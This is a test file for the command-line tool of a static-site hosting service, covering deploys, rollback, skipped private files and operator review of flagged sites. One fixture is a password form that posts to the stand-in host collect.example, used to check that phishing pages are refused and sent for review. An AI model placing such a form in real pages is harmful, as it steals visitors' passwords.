/** Tests of the commands for sites: deploys, rollback, and decisions of the operator. */
import assert from 'node:assert/strict'
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, it } from 'node:test'
import { longTest } from '../../../test/fixtures/depth.ts'
import { mediaFixture } from '../../../test/fixtures/media/media.ts'
import { openTestRuntime } from '../../../test/fixtures/runtime.ts'
import * as projects from '../../areas/projects/service.ts'
import { findServed } from '../../areas/sites/service.ts'
import { limits } from '../../contract/limits.ts'
import { readConfig } from '../../kernel/config/config.ts'
import { run } from '../run.ts'
import {
  databaseUrl,
  runInProcess,
  runProcess,
  temporaryFolder,
} from '../../../test/fixtures/command-line.ts'

const NOBODY = '019ab3f0-5e1c-7a42-9d30-6f1e2c3b4a59'
const runtime = await openTestRuntime({ work: false })
const { config, db } = runtime.runtime
const settings = {
  HOMEPORT_DATA_DIR: config.data_dir,
  HOMEPORT_SECRET: config.secret,
  HOMEPORT_PUBLIC_URL: config.public_url,
  HOMEPORT_SITES_DOMAIN: config.sites_domain,
  DATABASE_URL: databaseUrl(runtime.connection),
}
await projects.change(db, runtime.project_id, { phone_verified: true })

const page = '<!doctype html><title>Bread</title>'
const stealing = `${page}\n<form action="https://collect.example"><input type="password"></form>`

function folderOf(texts: Record<string, string>): string {
  const folder = temporaryFolder()
  for (const [path, text] of Object.entries(texts)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  return folder
}

async function answer(...argv: string[]) {
  const { code, json, said } = await runInProcess([...argv, '--json'], settings)
  assert.deepEqual([code, said], [0, ''])
  return json
}

async function refusal(...argv: string[]): Promise<string> {
  const { code, said } = await runInProcess(argv, settings)
  assert.equal(code, 1)
  return said
}

let sites = 0
/** Returns a new slug, in a project that may have another site. */
async function room(): Promise<[slug: string, ...project: string[]]> {
  const { project_id } = await runtime.newProject()
  await projects.change(db, project_id, { phone_verified: true })
  return [`cli-${++sites}`, '--project', project_id]
}

describe('deploy', () => {
  it('publishes a folder and prints the URL, which serves it', async () => {
    const [slug, ...project] = await room()
    const folder = folderOf({ 'index.html': page, 'assets/a.css': 'a{}', 'b.css': 'a{}' })
    const site = await answer('deploy', folder, '--slug', slug, ...project)
    assert.equal(site.url, `http://${slug}.${config.sites_domain}`)
    assert.deepEqual(
      [site.version, site.files_count, site.uploaded_files, site.skipped, site.title],
      [1, 3, 2, [], 'Bread'],
    )
    const served = await findServed(db, slug)
    assert.deepEqual([served?.id, served?.version], [site.id, 1])
  })

  it('uploads only changed files, and publishes the next version', async () => {
    const [slug, ...project] = await room()
    const texts = { 'index.html': page, 'a.txt': `a ${slug}`, 'b.txt': `b ${slug}` }
    await answer('deploy', folderOf(texts), '--slug', slug, ...project)
    const changed = folderOf({ ...texts, 'b.txt': `c ${slug}` })
    const second = await answer('deploy', changed, '--slug', slug, ...project)
    assert.deepEqual(
      [second.version, second.uploaded_files, second.uploaded_bytes],
      [2, 1, 2 + slug.length],
    )
    const third = await answer('deploy', changed, '--slug', slug, ...project)
    assert.deepEqual([third.version, third.uploaded_files], [3, 0])
  })

  it('removes files that are no longer in the folder', async () => {
    const [slug, ...project] = await room()
    await answer(
      'deploy',
      folderOf({ 'index.html': page, 'a.txt': 'a' }),
      '--slug',
      slug,
      ...project,
    )
    const site = await answer(
      'deploy',
      folderOf({ 'index.html': page }),
      '--slug',
      slug,
      ...project,
    )
    assert.equal(site.files_count, 1)
  })

  longTest('keeps the media of the site, and adds and removes media', async () => {
    const [slug, ...project] = await room()
    const key = await runtime.newKey({ project_id: project[1]! })
    const { id: media_id } = await mediaFixture({ ...runtime, key }).ready(Buffer.from('Door'), {
      filename: 'door.txt',
    })
    const folder = folderOf({ 'index.html': page })
    const placed = await answer(
      'deploy',
      folder,
      '--slug',
      slug,
      ...project,
      '--media',
      `a/door.txt=${media_id}`,
    )
    const shown = async () => {
      const { body } = await runtime.call(`GET /sites/${placed.id}/files`, { key })
      return body.data.map(({ path, media_id: id }: any) => [path, id])
    }
    const both = [
      ['a/door.txt', media_id],
      ['index.html', null],
    ]
    assert.deepEqual(await shown(), both)
    await answer('deploy', folder, '--slug', slug, ...project)
    assert.deepEqual(await shown(), both)
    const over = folderOf({ 'index.html': page, 'a/door.txt': 'Another door' })
    await answer('deploy', over, '--slug', slug, ...project)
    assert.deepEqual(await shown(), [
      ['a/door.txt', null],
      ['index.html', null],
    ])
    await answer('deploy', folder, '--slug', slug, ...project, '--media', `b.txt=${media_id}`)
    await answer('deploy', folder, '--slug', slug, ...project, '--without-media')
    assert.deepEqual(await shown(), [['index.html', null]])
    assert.match(
      await refusal('deploy', folder, '--slug', slug, ...project, '--media', 'b.txt'),
      /--media must be a path and an id/,
    )
  })

  it('skips private and ignored files, and reports them', async () => {
    const [slug, ...project] = await room()
    const folder = folderOf({
      'index.html': page,
      '.well-known/security.txt': 'Contact: mailto:a@example.com',
      '.env': 'SECRET=1',
      '.git/config': 'x',
      'node_modules/a/index.js': 'x',
      'notes/draft.md': 'x',
      'app.js.map': '{}',
      'keep.js.map': '{}',
      '.homeportignore': '# ours\nnotes/\n*.map\n!keep.js.map\n',
    })
    symlinkSync('/etc/hostname', join(folder, 'link.txt'))
    const { skipped, files_count } = await answer('deploy', folder, '--slug', slug, ...project)
    const names = skipped.map(({ path }: { path: string }) => path).sort()
    assert.deepEqual(names, [
      '.env',
      '.git',
      '.homeportignore',
      'app.js.map',
      'link.txt',
      'node_modules',
      'notes',
    ])
    assert.equal(files_count, 3)
    const { stdout } = await runInProcess(['deploy', folder, '--slug', slug, ...project], settings)
    assert.match(stdout, /^address +http:/m)
    assert.match(stdout, /^Skipped: \.env begins with a dot\.$/m)
  })

  it('sets title, visibility, password and spa', async () => {
    const [slug, ...project] = await room()
    const folder = folderOf({ 'index.html': page })
    const how = [
      '--title',
      'Mine',
      '--visibility',
      'password',
      '--password',
      'white flour',
      '--spa',
    ]
    const site = await answer('deploy', folder, '--slug', slug, ...how, ...project)
    assert.deepEqual([site.title, site.visibility, site.spa], ['Mine', 'password', true])
    const again = await answer('deploy', folder, '--slug', slug, ...project)
    assert.deepEqual([again.title, again.visibility, again.spa], ['Mine', 'password', true])
  })

  it('reports an invalid folder or option before anything is opened', async () => {
    const nothing = join(temporaryFolder(), 'none')
    assert.match(await refusal('deploy', nothing, '--slug', 'aa'), /none does not exist/)
    assert.match(await refusal('deploy', temporaryFolder(), '--slug', 'aa'), /no file to publish/)
    assert.match(await refusal('deploy', 'x', '--slug', 'Not-This'), /--slug must be 2 to 48/)
    assert.match(await refusal('deploy', '--slug', 'aa'), /"deploy" needs --dir DIR/)
    assert.match(
      await refusal('deploy', 'x', 'y', '--slug', 'aa'),
      /cannot use "x y"|cannot use "y"/,
    )
    const file = join(folderOf({ a: 'a' }), 'a')
    assert.match(await refusal('deploy', file, '--slug', 'aa'), /is a file, and must be a folder/)
  })

  it('prints a Problem of the service in one line', async () => {
    const [slug, ...project] = await room()
    const large = folderOf({ 'index.html': 'x'.repeat(limits.site_file_bytes_max + 1) })
    assert.match(
      await refusal('deploy', large, '--slug', slug, ...project),
      /index\.html is larger than 1 MB/,
    )
    const bad = folderOf({ 'index.html': stealing })
    const said = await refusal('deploy', bad, '--slug', slug, ...project)
    assert.match(said, /^index\.html, line 2: This form sends a password/)
    assert.ok(said.includes(`${config.public_url}/portal/appeals/`), said)
    const { project_id } = await runtime.newProject()
    const fine = folderOf({ 'index.html': page })
    const unverified = await refusal('deploy', fine, '--slug', slug, '--project', project_id)
    assert.match(unverified, /verified phone number[\s\S]*--phone-verified yes/)
  })

  it('names the invalid option once', async () => {
    const [slug, ...project] = await room()
    const publish = ['deploy', folderOf({ 'index.html': page }), '--slug', slug, ...project]
    assert.equal(
      await refusal(...publish, '--visibility', 'password'),
      '--password is missing, and the visibility is password.',
    )
    assert.equal(
      await refusal(...publish, '--password', 'white flour'),
      '--password needs the visibility password.',
    )
    await answer(...publish)
    assert.equal(
      await refusal('sites', 'rollback', '--slug', slug, '--to', '9', ...project),
      '--to is not a kept version.',
    )
  })

  it('names the invalid file once', async () => {
    const [slug, ...project] = await room()
    const folder = folderOf({ 'index.html': page, 'a/A.txt': '1', 'a/a.txt': '2' })
    const said = await refusal('deploy', folder, '--slug', slug, ...project)
    assert.match(said, /^a\/[Aa]\.txt /)
    assert.doesNotMatch(said, /\/files\/|\.\.$/)
    assert.equal(said.split('. ').length, 1, said)
  })

  describe("deploying a folder without the site's home page", () => {
    const bare = { 'about.html': page }
    async function published() {
      const [slug, ...project] = await room()
      await answer('deploy', folderOf({ 'index.html': page }), '--slug', slug, ...project)
      const version = async () => (await findServed(db, slug))?.version
      return { argv: ['deploy', folderOf(bare), '--slug', slug, ...project], version }
    }

    it('is refused without a terminal, and published with --yes', async () => {
      const { argv, version } = await published()
      const said = await refusal(...argv)
      assert.match(said, /takes away the home page: visitors of http.* Nothing was published\./)
      assert.match(said, /--yes/)
      assert.match(await refusal(...argv, '--json'), /--yes/)
      assert.equal(await version(), 1)
      await answer(...argv, '--yes')
      assert.equal(await version(), 2)
    })

    longTest('is published from a terminal after "yes", and not after another answer', async () => {
      const { argv, version } = await published()
      const questions: string[] = []
      const text = { stdout: '', stderr: '' }
      const runWith = (said: string) =>
        run(argv, {
          stdout: { write: (part) => (text.stdout += part) },
          stderr: { write: (part) => (text.stderr += part) },
          settings: () => readConfig(settings, config.data_dir),
          ask: async (question) => {
            questions.push(question)
            return said
          },
        })
      for (const said of ['', 'n', 'yesterday']) assert.equal(await runWith(said), 1, said)
      assert.equal(await version(), 1)
      assert.equal(await runWith(' Yes '), 0, text.stderr)
      assert.equal(await version(), 2)
      assert.match(questions[0]!, /takes away the home page.*Publish it\? \[y\/N\] $/)
    })
  })

  it('deploy shows progress on a terminal and erases it at the end', async () => {
    const [slug, ...project] = await room()
    const folder = folderOf({ 'index.html': page, 'a.txt': slug })
    const text = { stdout: '', stderr: '' }
    const code = await run(['deploy', folder, '--slug', slug, ...project], {
      stdout: { write: (part) => (text.stdout += part) },
      stderr: { isTTY: true, write: (part) => (text.stderr += part) },
      settings: () => readConfig(settings, config.data_dir),
    })
    assert.equal(code, 0)
    const lines = text.stderr.split('\r\u001b[2K')
    assert.ok(
      lines.some((one) => /^[█░]{24} +\d+% \S+$/.test(one)),
      text.stderr,
    )
    assert.equal(lines.at(-1), '')
  })

  longTest(
    'the command deploy runs as a process without a server, for a first project',
    async () => {
      const alone = { HOMEPORT_DATA_DIR: temporaryFolder() }
      await runProcess(['migrate'], alone)
      const { json } = await runProcess(['projects', 'create', '--name', 'Alone', '--json'], alone)
      const id = json.project_id
      await runProcess(['projects', 'set', '--project', id, '--phone-verified', 'yes'], alone)
      const folder = folderOf({ 'index.html': page })
      const first = await runProcess(['deploy', folder, '--slug', 'alone', '--json'], alone)
      assert.equal(first.json.url, 'http://alone.sites.localhost:4400')
      const second = await runProcess(['deploy', folder, '--slug', 'alone', '--json'], alone)
      assert.deepEqual([second.json.version, second.json.uploaded_files], [2, 0])
    },
  )
})

describe('sites list and sites rollback', () => {
  it('list the sites, and restore an earlier version', async () => {
    const [slug, ...project] = await room()
    const none = await runInProcess(['sites', 'list', ...project], settings)
    assert.match(none.stdout, /no site yet: "deploy DIR --slug S" publishes one/)
    for (const text of ['1', '2', '3']) {
      await answer('deploy', folderOf({ 'index.html': page + text }), '--slug', slug, ...project)
    }
    const [site] = await answer('sites', 'list', ...project)
    assert.deepEqual([site.slug, site.version, site.status], [slug, 3, 'live'])
    const back = await answer('sites', 'rollback', '--slug', slug, ...project)
    assert.equal(back.version, 2)
    const first = await answer('sites', 'rollback', '--slug', slug, '--to', '1', ...project)
    assert.equal(first.version, 1)
    const { stdout } = await runInProcess(['sites', 'list', ...project], settings)
    assert.match(stdout, new RegExp(`${slug} +live +public +1 `))
  })

  it('refuse unknown sites and versions', async () => {
    const [slug, ...project] = await room()
    assert.match(await refusal('sites', 'rollback', '--slug', slug, ...project), /has no site cli-/)
    assert.match(
      await refusal('sites', 'rollback', '--slug', slug, '--to', 'x', ...project),
      /--to must be the number of a version/,
    )
    await answer('deploy', folderOf({ 'index.html': page }), '--slug', slug, ...project)
    assert.match(
      await refusal('sites', 'rollback', '--slug', slug, ...project),
      /no version before version 1/,
    )
  })
})

describe('sites reviews, sites decide, sites take-offline and sites put-online', () => {
  longTest('list a refused deploy with its findings, and decide on it', async () => {
    const [slug, ...project] = await room()
    const bad = folderOf({ 'index.html': stealing })
    await refusal('deploy', bad, '--slug', slug, ...project)
    const all = await answer('sites', 'reviews')
    const review = all.find((one: { slug: string }) => one.slug === slug)
    assert.deepEqual(
      [review.findings[0].rule, review.decision, review.appeal],
      ['password_sent_elsewhere', null, null],
    )
    const { stdout } = await runInProcess(['sites', 'reviews'], settings)
    assert.match(stdout, /^ {2}index\.html:2: This form sends a password to collect\.example\.$/m)
    assert.deepEqual(await answer('sites', 'reviews', '--open'), [])
    const decided = await answer(
      'sites',
      'decide',
      '--review',
      review.id,
      '--allow',
      '--note',
      'Fine',
    )
    assert.deepEqual([decided.decision, decided.decision_note], ['allowed', 'Fine'])
    const site = await answer('deploy', bad, '--slug', slug, ...project)
    assert.equal(site.version, 1)
  })

  it('take a site offline with a reason, and restore it', async () => {
    const [slug, ...project] = await room()
    const folder = folderOf({ 'index.html': page })
    const { id } = await answer('deploy', folder, '--slug', slug, ...project)
    const taken = await answer('sites', 'take-offline', '--id', id, '--reason', 'Phishing')
    assert.deepEqual([taken.status, taken.status_reason], ['offline', 'Phishing'])
    const said = await refusal('deploy', folder, '--slug', slug, ...project)
    assert.match(said, /^The site was taken offline: Phishing\./)
    assert.ok(said.includes(taken.appeal_url))
    assert.equal((await answer('sites', 'put-online', '--id', id)).status, 'live')
    assert.equal((await answer('deploy', folder, '--slug', slug, ...project)).version, 2)
  })

  it('refuse unknown ids and contradictory options', async () => {
    for (const argv of [
      ['sites', 'take-offline', '--id', NOBODY, '--reason', 'x'],
      ['sites', 'put-online', '--id', NOBODY],
    ]) {
      assert.match(await refusal(...argv), /There is no site 019ab3f0/)
    }
    const decide = ['sites', 'decide', '--review', NOBODY]
    assert.match(await refusal(...decide), /needs one of --allow and --uphold/)
    assert.match(await refusal(...decide, '--allow', '--uphold'), /needs one of/)
    assert.match(await refusal(...decide, '--allow'), /There is no review 019ab3f0/)
  })
})

describe('help for sites', () => {
  it('shows the folder of deploy as a positional argument', async () => {
    const { stdout } = await runInProcess(['help', 'deploy'], settings)
    assert.match(stdout, /Usage: npm run -s homeport -- deploy DIR --slug SLUG \[--title TEXT\]/)
  })
})
